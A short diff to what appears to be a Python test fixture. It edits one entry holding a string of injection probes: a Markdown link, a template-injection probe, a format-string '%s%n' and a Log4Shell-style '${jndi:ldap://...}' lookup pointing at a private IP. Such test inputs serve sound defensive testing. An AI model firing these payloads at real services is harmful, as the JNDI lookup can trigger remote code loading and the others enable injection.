@@ -97,7 +97,7 @@ NAMES: Final = (
     _named(
         "names-markup",
         "writes the mark-up of reports into every text it gives",
-        "](http://10.66.0.250/) | ``` --> ]]> {{7*7}} ${jndi:ldap://10.66.0.250} %s%n",
+        "](http://10.66.1.250/) | ``` --> ]]> {{7*7}} ${jndi:ldap://10.66.1.250} %s%n",
     ),
     _named(
         "names-patterns",
